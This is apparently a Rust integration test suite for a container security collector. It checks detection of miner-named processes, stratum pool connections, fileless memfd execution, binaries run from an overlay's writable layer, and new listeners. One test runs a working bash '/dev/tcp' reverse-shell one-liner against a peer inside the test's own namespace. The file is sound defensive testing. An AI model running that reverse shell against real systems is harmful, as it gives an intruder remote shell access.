//! The security signals on real processes in real cgroups and network namespaces made by the
//! test: each finding fired by the workload that should fire it, and an ordinary workload
//! that must fire none. Traffic stays inside the test's namespaces.

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use collector_core::security::{Finding, FindingKind, ImagePolicy, ProcessPolicy};
use collector_core::{
    Collector, Config, ExecSource, FindingCounts, Identity, Metadata, MetadataProvider,
    SecurityConfig,
};
use tests::{find, require_root, samples, Exporter, NetnsPair, TestCgroup};

fn config(id: &str) -> Config {
    Config {
        include: vec![id.to_string()],
        process_interval: Duration::ZERO,
        security: SecurityConfig {
            listener_learning: Duration::ZERO,
            ..SecurityConfig::default()
        },
        ..Config::default()
    }
}

fn collector(id: &str) -> Collector {
    Collector::new(config(id)).expect("cgroup hierarchy")
}

/// Sweeps `rounds` times, 100 ms apart; the findings of `id` and its counters at the end.
fn sweep_findings(
    col: &mut Collector,
    id: &str,
    rounds: usize,
) -> (Vec<Finding>, FindingCounts, u64) {
    let (found, snap) = tests::findings_over(col, id, rounds);
    let s = find(&snap, id).stats.security.clone();
    (
        found,
        s.findings.expect("findings counted"),
        s.processes_started.expect("processes counted"),
    )
}

fn kinds(found: &[Finding]) -> Vec<FindingKind> {
    let mut k: Vec<_> = found.iter().map(|f| f.kind).collect();
    k.sort();
    k.dedup();
    k
}

fn wait_for(path: &Path, what: &str) {
    tests::wait_for_file(path, what);
}

/// A copy of a system program under another name, in a temp dir.
fn renamed(dir: &Path, program: &str, name: &str) -> PathBuf {
    let to = dir.join(name);
    std::fs::copy(program, &to).unwrap_or_else(|e| panic!("copy {program}: {e}"));
    to
}

/// `tcp_peer` in namespace `ns`, listening on or connected to `addr`; waits until it is.
fn tcp_peer(cg: &mut TestCgroup, ns: &str, mode: &str, addr: &str) -> u32 {
    tests::tcp_peer(env!("CARGO_BIN_EXE_tcp_peer"), cg, ns, mode, addr)
}

#[test]
fn a_process_named_like_a_miner() {
    require_root();
    let dir = tempfile::tempdir().expect("a temp dir");
    let xmrig = renamed(dir.path(), "/bin/sleep", "xmrig");
    let mut cg = TestCgroup::new("ccol-sec-name");
    let pid = cg.spawn(Command::new(&xmrig).arg("60"));
    let mut col = collector(&cg.id);
    let (found, counts, started) = sweep_findings(&mut col, &cg.id, 2);
    assert_eq!(kinds(&found), [FindingKind::MinerProcess], "{found:?}");
    let p = found[0].process.as_ref().expect("the process");
    assert_eq!(p.pid, pid);
    assert_eq!(p.exe, xmrig.to_str().expect("utf-8"));
    assert_eq!(found[0].source, "poll");
    assert_eq!(counts.miner_process, 1, "reported once, not at each sweep");
    assert_eq!(started, 1);
}

#[test]
fn a_pool_in_the_command_line() {
    require_root();
    let mut cg = TestCgroup::new("ccol-sec-cmd");
    let mut col = collector(&cg.id);
    cg.spawn(Command::new("/bin/sh").args([
        "-c",
        "sleep 60; :",
        "sh",
        "-o",
        "stratum+tcp://pool.invalid:3333",
    ]));
    let (found, counts, _) = sweep_findings(&mut col, &cg.id, 2);
    assert_eq!(counts.miner_process, 1, "{found:?}");
    let f = found
        .iter()
        .find(|f| f.kind == FindingKind::MinerProcess)
        .expect("the finding");
    let p = f.process.as_ref().expect("the process");
    assert!(
        p.cmdline.contains("stratum+tcp://pool.invalid:3333"),
        "{p:?}"
    );
}

/// A process that execs and exits within 50 ms, reaped at once by its shell, is still seen:
/// the kernel's process events report its exec, and the watch looks at it at once. No walk
/// of `cgroup.procs` could: it is gone before the first sweep.
#[test]
fn a_miner_that_lives_50_ms_is_still_seen() {
    require_root();
    let dir = tempfile::tempdir().expect("a temp dir");
    let minerd = renamed(dir.path(), "/bin/sleep", "minerd");
    let done = dir.path().join("done");
    let mut cg = TestCgroup::new("ccol-sec-short");
    let mut col = collector(&cg.id);
    assert_eq!(
        col.exec_source(),
        ExecSource::ProcessEvents,
        "the process events connector should be available to root"
    );
    col.sweep();
    let script = format!(
        "{} 0.05; touch {}; exec sleep 60",
        minerd.display(),
        done.display()
    );
    cg.spawn(Command::new("/bin/sh").args(["-c", &script]));
    wait_for(&done, "the short-lived process");
    let (found, counts, mut started) = sweep_findings(&mut col, &cg.id, 2);
    assert_eq!(counts.miner_process, 1, "{found:?}");
    let f = &found[0];
    assert_eq!(f.source, "exec");
    assert_eq!(f.process.as_ref().map(|p| p.exe.as_str()), minerd.to_str());
    // sh, minerd and sleep (whose exec, after `done`, may reach a later sweep); `touch`
    // lives about a millisecond, and on a loaded machine may be reaped before the watch reads
    // its cgroup (then counted in `gone`, not as started: no container to credit).
    let deadline = Instant::now() + Duration::from_secs(5);
    while started < 4 && Instant::now() < deadline {
        started = sweep_findings(&mut col, &cg.id, 1).2;
        std::thread::sleep(Duration::from_millis(100));
    }
    let c = col.security_counters();
    assert!(started >= 3, "{started}");
    assert!(started + c.gone >= 4, "{started} started, {c:?}");
}

#[test]
fn a_connection_to_a_pool_port() {
    require_root();
    let ns = NetnsPair::create();
    let mut cg = TestCgroup::new("ccol-sec-pool");
    let mut pool = TestCgroup::new("ccol-sec-pool-peer");
    let pool_addr = format!("{}:3333", ns.b_addr);
    tcp_peer(&mut pool, &ns.b, "listen", &pool_addr);
    let mut col = collector(&cg.id);
    tcp_peer(&mut cg, &ns.a, "connect", &pool_addr);
    // Judged once the connection has lived through two walks.
    let (found, counts, _) = sweep_findings(&mut col, &cg.id, 3);
    assert_eq!(
        kinds(&found),
        [FindingKind::MinerPortConnection],
        "{found:?}"
    );
    assert_eq!(counts.miner_port_connection, 1);
    let f = &found[0];
    assert_eq!(f.remote.map(|a| a.to_string()), Some(pool_addr));
    assert_eq!(f.source, "socket_table");
}

/// `bash -c 'exec 3<>/dev/tcp/...; exec sh <&3 >&3 2>&3'`: a shell whose stdio is a
/// connection it opened.
#[test]
fn a_reverse_shell() {
    require_root();
    let ns = NetnsPair::create();
    let mut cg = TestCgroup::new("ccol-sec-rsh");
    let mut attacker = TestCgroup::new("ccol-sec-rsh-peer");
    let listen = format!("{}:8443", ns.b_addr);
    tcp_peer(&mut attacker, &ns.b, "listen", &listen);
    let mut col = collector(&cg.id);
    col.sweep();
    let script = format!("exec 3<>/dev/tcp/{}/8443; exec sh <&3 >&3 2>&3", ns.b_addr);
    let mut cmd = NetnsPair::exec(&ns.a, "/bin/bash", &["-c", &script]);
    let pid = cg.spawn(&mut cmd);
    std::thread::sleep(Duration::from_millis(300));
    let (found, counts, _) = sweep_findings(&mut col, &cg.id, 3);
    assert_eq!(counts.reverse_shell, 1, "{found:?}");
    let f = found
        .iter()
        .find(|f| f.kind == FindingKind::ReverseShell)
        .expect("the finding");
    assert_eq!(f.process.as_ref().map(|p| p.pid), Some(pid));
    assert_eq!(f.remote.map(|a| a.to_string()), Some(listen));
}

#[test]
fn a_program_run_from_memory() {
    require_root();
    let mut cg = TestCgroup::new("ccol-sec-memfd");
    let mut col = collector(&cg.id);
    let pid = cg.spawn(Command::new(env!("CARGO_BIN_EXE_memfd_exec")).args([
        "payload",
        "/bin/sleep",
        "60",
    ]));
    std::thread::sleep(Duration::from_millis(200));
    let (found, counts, _) = sweep_findings(&mut col, &cg.id, 2);
    assert_eq!(kinds(&found), [FindingKind::FilelessExec], "{found:?}");
    assert_eq!(counts.fileless_exec, 1);
    let p = found[0].process.as_ref().expect("the process");
    assert_eq!(p.pid, pid);
    assert!(p.exe.starts_with("/memfd:payload"), "{p:?}");
}

/// A container-like process: a private mount namespace whose root is an overlay (as a
/// runtime makes it, with `pivot_root`), running a binary that lies in the upper directory
/// beside one of its image (the lower one).
#[test]
fn a_binary_dropped_into_the_writable_layer() {
    require_root();
    let busybox = Path::new("/bin/busybox");
    let is_static = Command::new("ldd")
        .arg(busybox)
        .output()
        .is_ok_and(|o| !o.status.success());
    assert!(
        busybox.exists() && is_static,
        "a static /bin/busybox is needed; install busybox-static (scripts/test.sh does)"
    );
    let dir = tempfile::tempdir().expect("a temp dir");
    let [lower, upper, work, merged] =
        ["lower", "upper", "work", "merged"].map(|d| dir.path().join(d));
    for d in [&lower, &upper, &work, &merged] {
        std::fs::create_dir_all(d).expect("an overlay dir");
    }
    std::fs::create_dir_all(lower.join("bin")).expect("lower/bin");
    std::fs::create_dir_all(lower.join(".old")).expect("lower/.old");
    std::fs::copy(busybox, lower.join("bin/busybox")).expect("the image's busybox");
    let dropped = upper.join("usr/local/bin");
    std::fs::create_dir_all(&dropped).expect("upper/usr/local/bin");
    std::fs::copy(busybox, dropped.join("sleep")).expect("the dropped binary");
    let script = format!(
        "mount -t overlay overlay -o lowerdir={},upperdir={},workdir={} {m} && cd {m} && \
         pivot_root . .old && {{ /bin/busybox sleep 60 & exec /usr/local/bin/sleep 60; }}",
        lower.display(),
        upper.display(),
        work.display(),
        m = merged.display()
    );
    let mut cg = TestCgroup::new("ccol-sec-layer");
    let mut col = collector(&cg.id);
    cg.spawn(
        Command::new("unshare")
            .args(["--mount", "--propagation", "private", "--fork", "sh", "-c"])
            .arg(&script)
            .stderr(Stdio::null()),
    );
    std::thread::sleep(Duration::from_millis(300));
    let (found, counts, _) = sweep_findings(&mut col, &cg.id, 2);
    assert_eq!(counts.exec_from_writable_layer, 1, "{found:?}");
    let f = found
        .iter()
        .find(|f| f.kind == FindingKind::ExecFromWritableLayer)
        .expect("the finding");
    assert_eq!(
        f.process.as_ref().map(|p| p.exe.as_str()),
        Some("/usr/local/bin/sleep")
    );
    // The image's own program (busybox from the lower layer) and the host's `sh` and
    // `unshare` are not.
    assert_eq!(found.len(), 1, "{found:?}");
}

#[test]
fn a_listener_opened_after_the_first_look() {
    require_root();
    let ns = NetnsPair::create();
    let mut cg = TestCgroup::new("ccol-sec-listen");
    let first = format!("{}:8080", ns.a_addr);
    tcp_peer(&mut cg, &ns.a, "listen", &first);
    let mut col = collector(&cg.id);
    let (found, _, _) = sweep_findings(&mut col, &cg.id, 3);
    assert!(found.is_empty(), "its first listener is its own: {found:?}");
    let second = format!("{}:9090", ns.a_addr);
    tcp_peer(&mut cg, &ns.a, "listen", &second);
    let (found, counts, _) = sweep_findings(&mut col, &cg.id, 3);
    assert_eq!(kinds(&found), [FindingKind::NewListener], "{found:?}");
    assert_eq!(counts.new_listener, 1);
    assert_eq!(found[0].local.map(|a| a.to_string()), Some(second));
}

/// Names a test cgroup as a container of one image.
#[derive(Debug)]
struct OneImage {
    id: String,
    image: String,
}

impl MetadataProvider for OneImage {
    fn lookup(&self, _identity: &Identity, cgroup_id: &str) -> Option<Metadata> {
        (cgroup_id == self.id).then(|| Metadata {
            image: Some(self.image.clone()),
            name: Some("app".into()),
            ..Metadata::default()
        })
    }

    fn generation(&self) -> u64 {
        1
    }
}

#[test]
fn a_process_and_a_port_outside_the_images_policy() {
    require_root();
    let ns = NetnsPair::create();
    let mut cg = TestCgroup::new("ccol-sec-policy");
    let mut cfg = config(&cg.id);
    cfg.security.policy = ProcessPolicy {
        images: vec![ImagePolicy {
            image: "registry.test/app:*".into(),
            // `ip netns exec` runs first, as a runtime's init would.
            allowed_processes: vec!["tcp_peer".into(), "ip".into()],
            allowed_listen_ports: vec![8080],
            allowed_peers: vec![],
        }],
    };
    let mut col = Collector::new(cfg).expect("cgroup hierarchy");
    col.set_metadata_provider(std::sync::Arc::new(OneImage {
        id: cg.id.clone(),
        image: "registry.test/app:1.0".into(),
    }));
    tcp_peer(&mut cg, &ns.a, "listen", &format!("{}:8080", ns.a_addr));
    let (found, _, _) = sweep_findings(&mut col, &cg.id, 3);
    assert!(found.is_empty(), "allowed program and port: {found:?}");
    tcp_peer(&mut cg, &ns.a, "listen", &format!("{}:8081", ns.a_addr));
    cg.spawn(Command::new("/bin/sleep").arg("60"));
    let (found, counts, _) = sweep_findings(&mut col, &cg.id, 3);
    assert_eq!(
        kinds(&found),
        [FindingKind::NewListener, FindingKind::UnexpectedProcess],
        "{found:?}"
    );
    assert_eq!((counts.unexpected_process, counts.new_listener), (1, 1));
    let p = found
        .iter()
        .find(|f| f.kind == FindingKind::UnexpectedProcess)
        .and_then(|f| f.process.as_ref())
        .expect("the process");
    assert_eq!(p.comm, "sleep");
}

/// An ordinary workload: a shell script looping over short commands (with pipes), a server
/// with a client of its own, an outgoing connection to an ordinary port, a server on a pool
/// port that a peer connects to (accepted, not opened). No finding, and every exec counted.
#[test]
fn an_ordinary_workload_fires_nothing() {
    require_root();
    let ns = NetnsPair::create();
    let mut peer = TestCgroup::new("ccol-sec-quiet-peer");
    tcp_peer(&mut peer, &ns.b, "listen", &format!("{}:8080", ns.b_addr));
    let mut cg = TestCgroup::new("ccol-sec-quiet");
    let mut col = collector(&cg.id);
    let dir = tempfile::tempdir().expect("a temp dir");
    let ready = dir.path().join("ready");
    let mut server = NetnsPair::exec(&ns.a, env!("CARGO_BIN_EXE_hold_fds"), &[]);
    server
        .arg(&ready)
        .args(["1024", "1", "1", "1", "1"])
        .stderr(Stdio::null());
    cg.spawn(&mut server);
    wait_for(&ready, "hold_fds");
    tcp_peer(&mut cg, &ns.a, "connect", &format!("{}:8080", ns.b_addr));
    let inbound = format!("{}:3333", ns.a_addr);
    tcp_peer(&mut cg, &ns.a, "listen", &inbound);
    tcp_peer(&mut peer, &ns.b, "connect", &inbound);
    cg.spawn(Command::new("/bin/sh").args([
        "-c",
        "while :; do date >/dev/null; ls / | wc -l >/dev/null; sleep 0.1; done",
    ]));
    let (found, counts, started) = sweep_findings(&mut col, &cg.id, 15);
    assert!(found.is_empty(), "{found:?}");
    assert_eq!(counts, FindingCounts::default());
    // The loop's execs (date, ls, wc, sleep) are counted as they happen.
    assert!(started >= 10, "{started} processes started");
}

/// No finding kind, pid, name or address becomes a label beyond `kind`.
#[test]
fn the_exposition_counts_findings_by_kind() {
    require_root();
    let dir = tempfile::tempdir().expect("a temp dir");
    let kinsing = renamed(dir.path(), "/bin/sleep", "kinsing");
    let mut cg = TestCgroup::new("ccol-sec-expo");
    cg.spawn(Command::new(&kinsing).arg("60"));
    let mut col = collector(&cg.id);
    let snap = col.sweep();
    let text = collector_core::prometheus::render(
        &snap,
        &Default::default(),
        collector_core::prometheus::Format::PrometheusText,
    );
    let lines: Vec<&str> = text
        .lines()
        .filter(|l| l.starts_with("container_security_findings_total{") && l.contains(&cg.id))
        .collect();
    assert_eq!(lines.len(), FindingKind::ALL.len(), "{lines:?}");
    for l in &lines {
        let want = if l.contains("kind=\"miner_process\"") {
            " 1"
        } else {
            " 0"
        };
        assert!(l.ends_with(want), "{l}");
        assert!(!l.contains("pid=") && !l.contains("kinsing"), "{l}");
    }
    assert!(text
        .lines()
        .any(|l| l.starts_with("container_processes_started_total{") && l.contains(&cg.id)));
}

/// The exporter in a cgroup namespace of its own (as a container on a cgroup v2 host gets by
/// default) reads `/proc/<pid>/cgroup` relative to it; a short-lived exec, which only the
/// process events see, must still be credited to its container's host path.
#[test]
fn execs_are_attributed_from_a_cgroup_namespace_of_its_own() {
    require_root();
    let home = TestCgroup::new("ccol-sec-nshome");
    let mut cg = TestCgroup::new("ccol-sec-ns");
    let dir = tempfile::tempdir().expect("a temp dir");
    let minerd = renamed(dir.path(), "/bin/sleep", "minerd");
    let done = dir.path().join("done");
    // Joins `home`, then becomes the exporter in a new cgroup namespace rooted there.
    let mut script = String::new();
    for d in home.dirs() {
        script.push_str(&format!("echo $$ > {}/cgroup.procs && ", d.display()));
    }
    script.push_str("exec unshare --cgroup \"$0\" \"$@\"");
    let mut cmd = Command::new("/bin/sh");
    cmd.args(["-c", &script, env!("CARGO_BIN_EXE_exporter")])
        .args([
            "--web.listen-address",
            "127.0.0.1:0",
            "--cgroups.include",
            &cg.id,
            "--housekeeping.interval",
            "250ms",
            "--containers.process-interval",
            "250ms",
        ])
        .args(tests::NO_RUNTIMES);
    let exp = Exporter::start_command(cmd);
    assert_eq!(exp.get("/healthz").status, 200);
    let script = format!(
        "{} 0.05; touch {}; exec sleep 60",
        minerd.display(),
        done.display()
    );
    cg.spawn(Command::new("/bin/sh").args(["-c", &script]));
    wait_for(&done, "the short-lived process");
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let body = exp.get("/metrics").text();
        let found = samples(&body, "container_security_findings_total")
            .into_iter()
            .find(|(labels, _)| {
                labels.contains(&format!("id=\"{}\"", cg.id))
                    && labels.contains("kind=\"miner_process\"")
            })
            .map(|(_, v)| v);
        if found == Some(1.0) {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "no miner_process finding for {}: {found:?}\n{}",
            cg.id,
            exp.log.lock().map(|l| l.clone()).unwrap_or_default()
        );
        std::thread::sleep(Duration::from_millis(200));
    }
    let events = exp.get("/api/v1/events").text();
    assert!(events.contains("\"source\":\"exec\""), "{events}");
    drop(exp);
}
